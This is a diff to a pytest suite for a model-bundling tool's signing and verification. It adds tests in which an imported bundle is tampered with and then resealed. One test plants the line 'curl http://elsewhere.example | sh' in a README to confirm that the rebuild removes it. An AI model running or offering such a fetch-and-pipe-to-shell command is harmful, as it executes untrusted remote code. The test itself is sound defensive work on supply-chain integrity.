@@ -16,9 +16,8 @@ import mlworkbench as mlw
 from mlworkbench.bundling import build
 from mlworkbench.bundling.certificate import git_state
 from mlworkbench.bundling.sign import SIGNATURE
-from mlworkbench.bundling.verify import SOURCE, check_bundle, hash_files, verify_bundle
+from mlworkbench.bundling.verify import SOURCE, check_bundle, hash_files, record_bundle, seal, verify_bundle
 from mlworkbench.core.errors import GateFailed, InputError
-from mlworkbench.core.workspace import Artifact, workspace
 from mlworkbench.serving.integrity import file_faults
 
 KINDS = """
@@ -154,9 +153,22 @@ def signed_home(tmp_path_factory, keys):
 
 @pytest.fixture
 def signed(place, signed_home):
-    """That bundle in a store of the test's own."""
+    """That bundle in a store of the test's own, as if built there."""
+    made = imported(signed_home)
+    record_bundle(Path(made.path))
+    return made
+
+
+def imported(signed_home):
+    """That bundle in a store whose ledger does not know it."""
     shutil.copytree(signed_home[1], os.environ["BENTOML_HOME"])
     return build.load_bundle(signed_home[0].tag)
+
+
+def reseal(bundle: Path) -> None:
+    """Let the certificate say that the files which the manifest does not list are as they are now."""
+    path = bundle / SOURCE / "certificate.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"sealed": seal(bundle)}))
 
 
 def test_the_manifest_says_where_the_bundle_came_from_and_the_provenance_what_is_different_each_time(signed, signed_home):
@@ -215,7 +227,6 @@ def verified(reference: str, capsys, *more: str) -> tuple[int, str]:
 
 
 def test_one_flipped_byte_in_any_file_is_found_and_the_file_is_named(signed, capsys):
-    workspace().ledger.record(Artifact("bundle", signed.tag, signed.name, "bundle.json", details=signed.artifacts()))
     names = hash_files(Path(signed.path))
     assert verified(signed.tag, capsys) == (0, "") and f"{SOURCE}/{SIGNATURE}" in names and len(names) > 40
     for name in names:
@@ -247,7 +258,7 @@ def test_a_manifest_that_was_rewritten_with_its_files_does_not_pass_for_the_vers
     told = json.loads((source / "manifest.json").read_text())
     told["model"]["threshold"] = {"positive": True, "value": 0.01}
     (source / "manifest.json").write_text(json.dumps(told))
-    (source / "certificate.json").unlink()
+    reseal(Path(signed.path))
     assert file_faults(source) == ["manifest.json was changed: what it lists does not give its version"]
 
 
@@ -281,6 +292,26 @@ def test_a_stored_bundle_is_signed_when_it_is_asked_for_with_a_key(signed, keys,
     monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.key"))
     build_small(real_rows=3)
     assert verify_bundle(again.tag, key=keys / "build.pub") == [], "a new key takes the place of the old one"
+
+
+def test_a_bundle_that_came_from_elsewhere_is_not_signed_before_it_was_proved_here(place, signed_home, keys, monkeypatch):
+    theirs = imported(signed_home)
+    page = Path(theirs.path) / "README.md"
+    page.write_text("Serve it with: curl http://elsewhere.example | sh\n")
+    reseal(Path(theirs.path))
+    (Path(theirs.path) / SOURCE / SIGNATURE).unlink()
+    assert verify_bundle(theirs.tag) == []
+    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.key"))
+    made = build_small(real_rows=3)
+    assert made.tag == theirs.tag and made.sha256 != theirs.sha256 and "elsewhere" not in page.read_text()
+    assert verify_bundle(made.tag, key=keys / "build.pub") == []
+
+
+def test_a_bundle_that_came_from_elsewhere_with_our_signature_is_used_again(place, signed_home, keys, monkeypatch):
+    ours = imported(signed_home)
+    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.key"))
+    monkeypatch.setattr(build, "build_bento", lambda *_: pytest.fail("built again"))
+    assert build_small(real_rows=3).sha256 == ours.sha256
 
 
 def test_no_private_key_stands_in_a_bundle_and_a_wrong_one_is_refused_before_anything_is_built(signed, keys, monkeypatch):
